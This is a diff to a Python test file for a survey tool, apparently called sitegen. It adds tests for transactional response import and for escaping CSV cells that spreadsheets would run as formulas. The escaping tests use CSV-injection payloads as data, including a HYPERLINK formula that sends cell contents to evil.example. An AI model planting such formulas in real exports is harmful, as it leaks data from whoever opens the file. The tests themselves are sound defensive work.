@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import datetime as dt
 import io
@@ -9,6 +10,7 @@ import json
 import re
 import shutil
 import typing
+import uuid
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -18,12 +20,14 @@ from click.testing import CliRunner
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from sitegen import interchange
 from sitegen.answers import read_json
 from sitegen.cli import main
-from sitegen.interchange import Format, export_responses, import_responses, jsonl_line
+from sitegen.interchange import Format, export_responses, import_responses, jsonl_line, neutralised, restored
 from sitegen.models import survey as survey_models
 from sitegen.site import Site, load_site
 from sitegen.store import ResponseStore, StoredResponse, survey_version
+from sitegen.store import responses as store_responses
 from sitegen.store.anonymity import anonymous_key
 
 REPOSITORY = Path(__file__).parent.parent
@@ -299,7 +303,8 @@ def test_a_csv_export_has_a_column_per_question_matrix_item_and_meta_key(
         "expectations,stood_out,effort,visit_reason,liked,email"
     )
     assert lines[1].startswith(
-        'visit-0001,after-visit,2026-05-01T10:00:00Z,lv,riga-centre,purchase,Mozilla/5.0 (Android 14; Mobile),6,"Rinda bija gara;'
+        "visit-0001,after-visit,2026-05-01T10:00:00Z,lv,riga-centre,purchase,"
+        'Mozilla/5.0 (Android 14; Mobile),6,"Rinda bija gara;'
     )
     assert lines[-1] == "visit-0002,after-visit,2026-05-01T10:00:00.250000Z,ru,,purchase,,10,,,,1,,,,,,,,,,"
     assert ",coffee;staff;speed,anna@example.com" in export_text(site, memory_store, "csv")
@@ -546,7 +551,10 @@ def test_a_csv_with_a_byte_order_mark_and_crlf_lines_is_read(
 ) -> None:
     path = tmp_path / "excel.csv"
     path.write_bytes(
-        "\ufeffid,survey,submitted_at,recommend,improve\r\nexcel-0001,after-visit,2026-05-01T10:00:00Z,7,Ļoti labi\r\n".encode()
+        (
+            "\ufeffid,survey,submitted_at,recommend,improve\r\n"
+            "excel-0001,after-visit,2026-05-01T10:00:00Z,7,Ļoti labi\r\n"
+        ).encode()
     )
     assert import_responses(site, memory_store, [path]).new == 1
     response = memory_store.get("excel-0001")
@@ -562,6 +570,170 @@ def test_a_line_that_is_not_utf8_is_reported_and_the_others_still_read(
     )
     report = import_responses(site, memory_store, [path])
     assert [str(problem) for problem in report.problems] == [f"{path}:2: not UTF-8 text; save the file as UTF-8"]
+
+
+# ---- import is one transaction -----------------------------------------------------------------
+
+SURROGATE_LINE = 701
+"""Where issue 11 found it: after the first batch of 500 was already stored."""
+
+
+def surrogate_line(response_id: str) -> str:
+    """A line whose answer holds a lone surrogate: valid JSON (`\\ud800`), but no Unicode text."""
+    return line(id=response_id, answers={"recommend": 3, "improve": "lone SURROGATE"}).replace("SURROGATE", "\\ud800")
+
+
+@pytest.mark.parametrize(
+    ("caught_by", "skip_invalid", "message", "imported"),
+    [
+        (
+            "check",
+            False,
+            "response 'line-0701' cannot be stored: it holds a lone surrogate, which is not Unicode text",
+            0,
+        ),
+        (
+            "check",
+            True,
+            "response 'line-0701' cannot be stored: it holds a lone surrogate, which is not Unicode text",
+            749,
+        ),
+        ("store", False, "cannot be stored: 'utf-8' codec can't encode character '\\ud800'", 0),
+        ("store", True, "cannot be stored: 'utf-8' codec can't encode character '\\ud800'", 0),
+    ],
+    ids=["at check time", "at check time, skipped", "at store time", "at store time, not skippable"],
+)
+def test_a_line_that_cannot_be_stored_leaves_the_store_as_it_was_and_is_named_by_its_line(
+    site: Site,
+    store: ResponseStore,
+    samples: list[StoredResponse],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    caught_by: str,
+    skip_invalid: bool,
+    message: str,
+    imported: int,
+) -> None:
+    if caught_by == "store":  # as if a check were missing: the database itself refuses the line
+        monkeypatch.setattr(interchange, "check_storable", lambda response: None)
+        monkeypatch.setattr(store_responses, "check_storable", lambda response: None)
+    store.add(samples)
+    before = export_text(site, store)
+    lines = [line(id=f"line-{number:04d}") for number in range(1, SURROGATE_LINE)]
+    lines.append(surrogate_line(f"line-{SURROGATE_LINE:04d}"))
+    lines += [line(id=f"line-{number:04d}") for number in range(SURROGATE_LINE + 1, 751)]
+    path = write(tmp_path, "surrogate.jsonl", "\n".join(lines) + "\n")
+    report = import_responses(site, store, [path], skip_invalid=skip_invalid)
+    assert [(problem.path, problem.line) for problem in report.problems] == [(str(path), SURROGATE_LINE)]
+    assert message in report.problems[0].message
+    assert report.is_refused == (imported == 0)
+    assert store.count() == len(samples) + imported
+    if not imported:
+        assert export_text(site, store) == before
+
+
+def test_cli_names_the_line_the_store_refused_without_a_traceback(
+    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(interchange, "check_storable", lambda response: None)
+    monkeypatch.setattr(store_responses, "check_storable", lambda response: None)
+    lines = [line(id=f"line-{number:04d}") for number in range(1, 3)]
+    path = write(tmp_path, "in.jsonl", "\n".join([*lines, surrogate_line("line-0003")]))
+    result = CliRunner().invoke(main, ["-C", str(project), "responses", "import", str(path)])
+    assert result.exit_code == 1 and result.exception is not None and isinstance(result.exception, SystemExit)
+    assert result.stderr.startswith(f"{path}:3: cannot be stored: ")
+    assert result.stderr.endswith("Stopped: the store refused a line. Nothing was imported.\n")
+    assert "Traceback" not in result.output
+    exported = run("-C", str(project), "responses", "export")
+    assert exported.stdout == ""
+
+
+# ---- CSV cells a spreadsheet would run -----------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
+        ("+41 79 000 00 00", "'+41 79 000 00 00"),
+        ("-3", "'-3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("'", "''"),
+        ("'=1", "''=1"),
+        ("''", "'''"),
+        ("a=1", "a=1"),
+        (" =1", " =1"),
+        ("", ""),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_is_marked_as_text_and_import_unmarks_it(cell: str, written: str) -> None:
+    assert neutralised(cell) == written
+    assert restored(written) == cell
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_a_csv_export_has_no_cell_that_starts_a_formula_and_imports_back_unchanged(
+    site: Site, store: ResponseStore, memory_store: ResponseStore, tmp_path: Path
+) -> None:
+    hostile = [
+        stored(
+            site,
+            "after-visit",
+            "2026-05-01T10:00:00Z",
+            {
+                "rid": f"-hostile-{n:03d}",
+                "answers": {"recommend": 3, "improve": text, "expectations": "exceeded", "stood_out": "'" + text},
+            },
+        )
+        for n, text in enumerate(["=SUM(A1)", "+1", "-2", "@x", "\t=1", "\r=1", "'=1", "''", "plain"])
+    ]
+    user_agent = '=HYPERLINK("http://evil.example","x")'
+    hostile[0] = dataclasses.replace(hostile[0], meta={**hostile[0].meta, "user_agent": user_agent})
+    store.add(hostile)
+    exported = export_text(site, store, "csv")
+    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    report = import_responses(site, memory_store, [write(tmp_path, "export.csv", exported)])
+    assert report.problems == []
+    assert list(memory_store.responses()) == list(store.responses())
+
+
+STARTS = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "'=", "''", "'\t"])
+META_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=40)
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    improve=st.tuples(STARTS, TEXT).map("".join),
+    stood_out=st.tuples(STARTS, TEXT).map("".join),
+    user_agent=st.tuples(STARTS, META_TEXT).map("".join),
+    file_format=st.sampled_from(["jsonl", "csv"]),
+)
+def test_any_text_answer_and_meta_survive_export_then_import(
+    site: Site,
+    store: ResponseStore,
+    tmp_path_factory: pytest.TempPathFactory,
+    improve: str,
+    stood_out: str,
+    user_agent: str,
+    file_format: Format,
+) -> None:
+    rid = f"text-{uuid.uuid4().hex}"  # one target store serves every example
+    answers = {"recommend": 3, "improve": improve, "expectations": "exceeded", "stood_out": stood_out}
+    response = stored(site, "after-visit", "2026-05-01T10:00:00Z", {"rid": rid, "answers": answers})
+    response = dataclasses.replace(response, meta={**response.meta, "user_agent": user_agent})
+    directory = tmp_path_factory.mktemp("text")
+    with ResponseStore.open("sqlite://", directory) as source:
+        source.add([response])
+        path = write(directory, "text" + EXTENSIONS[file_format], export_text(site, source, file_format))
+    report = import_responses(site, store, [path])
+    assert report.problems == []
+    assert store.get(rid) == response
 
 
 # ---- the command line --------------------------------------------------------------------------
@@ -591,7 +763,8 @@ def test_cli_reports_every_bad_line_and_imports_nothing(project: Path, tmp_path:
     result = run("-C", str(project), "responses", "import", str(path))
     assert result.exit_code == 1
     assert result.stderr == (
-        f"{path}:2: survey 'x' does not exist\n{path}:3: recommend: Enter a number.\nStopped: 2 invalid lines. Nothing was imported.\n"
+        f"{path}:2: survey 'x' does not exist\n{path}:3: recommend: Enter a number.\n"
+        "Stopped: 2 invalid lines. Nothing was imported.\n"
     )
     assert result.stdout == ""
     assert run("-C", str(project), "responses", "export").stderr == "Exported 0 responses.\n"
